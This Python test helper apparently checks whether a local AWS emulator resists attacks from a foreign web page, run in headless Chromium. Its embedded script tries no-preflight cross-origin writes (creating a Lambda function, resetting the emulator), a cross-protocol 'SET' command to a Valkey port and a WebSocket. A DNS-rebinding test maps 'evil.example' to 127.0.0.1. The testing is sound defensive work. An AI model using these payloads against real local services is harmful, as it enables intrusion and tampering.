"""A page of a foreign origin in headless Chromium, which tries the embedded stack."""

import asyncio
import json
import shutil
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from urllib.parse import urlsplit

from aiohttp import web

from tests.faults.attempts import LAMBDA, LIST_TABLES, Target, function

NAMES = ("chromium", "chromium-browser", "google-chrome")
_DEADLINE_S = 60.0
_PAGE = """<!doctype html><title>foreign</title><script>
const tried = {};
async function attempt(name, path, options) {
  try {
    const reply = await fetch(ENDPOINT + path, options);
    tried[name] = reply.type === "opaque" ? "unreadable" : "read " + await reply.text();
  } catch (error) { tried[name] = "unreadable"; }
}
async function main() {
  const plain = {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}};
  await attempt("read a list without a preflight", "/", {});
  await attempt("read the keys without a preflight", KEYS_PATH, {});
  await attempt("list tables with a preflight", "/", {
    method: "POST", body: "{}", headers: LIST_TABLES});
  await attempt("create a function with a preflight", LAMBDA, {
    method: "POST", body: FUNCTION, headers: {"Content-Type": "application/json"}});
  await attempt("create a function without a preflight", LAMBDA, {...plain, body: FUNCTION});
  await attempt("change settings without a preflight", "/_ministack/config", {
    ...plain, body: "{}"});
  await attempt("empty the emulator without a preflight", "/_ministack/reset", plain);
  await fetch(VALKEY, {...plain, body: "SET page 1\\r\\n"}).catch(() => {});
  await new Promise(done => {
    const socket = new WebSocket(ENDPOINT.replace("http", "ws") + "/");
    socket.onopen = () => { tried["open a web socket"] = "read an open socket"; done(); };
    socket.onerror = () => { tried["open a web socket"] = "unreadable"; done(); };
  });
  await fetch("/tried", {method: "POST", body: JSON.stringify(tried)});
}
main();
</script>"""


def chromium() -> str | None:
    """The path of a Chromium; None where none is installed."""
    return next(filter(None, map(shutil.which, NAMES)), None)


async def try_page(binary: str, target: Target, profile: Path) -> dict[str, str]:
    """What each attempt of a foreign page came to: `unreadable`, or `read` and the text."""
    sent: asyncio.Future[dict[str, str]] = asyncio.get_running_loop().create_future()

    async def page(_: web.Request) -> web.Response:
        return web.Response(text=_filled(target), content_type="text/html")

    async def tried(request: web.Request) -> web.Response:
        sent.set_result(await request.json())
        return web.Response()

    app = web.Application()
    app.add_routes([web.get("/", page), web.post("/tried", tried)])
    runner = web.AppRunner(app)
    await runner.setup()
    try:
        await web.TCPSite(runner, "127.0.0.1", 0).start()
        port = runner.addresses[0][1]
        async with _browser(binary, profile, f"http://127.0.0.1:{port}/"):
            return await asyncio.wait_for(sent, _DEADLINE_S)
    finally:
        await runner.cleanup()


async def read_rebound(binary: str, target: Target, path: str, profile: Path) -> str:
    """What a page sees of the embedded AWS once its own name resolves to this machine."""
    port = urlsplit(target.endpoint).port
    process = await start(
        binary,
        profile,
        "--host-resolver-rules=MAP evil.example 127.0.0.1",
        "--dump-dom",
        f"http://evil.example:{port}{path}",
    )
    shown, _ = await asyncio.wait_for(process.communicate(), _DEADLINE_S)
    return shown.decode()


def _filled(target: Target) -> str:
    redis = urlsplit(target.redis)
    values = {
        "ENDPOINT": target.endpoint,
        "KEYS_PATH": f"/{target.pool_id}/.well-known/jwks.json",
        "LIST_TABLES": LIST_TABLES,
        "LAMBDA": LAMBDA,
        "FUNCTION": function("browser").decode(),
        "VALKEY": f"http://{redis.hostname}:{redis.port}/",
    }
    constants = "".join(f"const {name} = {json.dumps(value)};" for name, value in values.items())
    return _PAGE.replace("<script>", f"<script>{constants}", 1)


async def start(binary: str, profile: Path, *arguments: str) -> asyncio.subprocess.Process:
    """A headless browser with a profile of its own."""
    return await asyncio.create_subprocess_exec(
        binary,
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-dev-shm-usage",
        "--no-first-run",
        f"--user-data-dir={profile}",
        *arguments,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.DEVNULL,
    )


@asynccontextmanager
async def _browser(binary: str, profile: Path, url: str) -> AsyncIterator[None]:
    process = await start(binary, profile, "--remote-debugging-port=0", url)
    try:
        yield
    finally:
        process.terminate()
        await process.communicate()
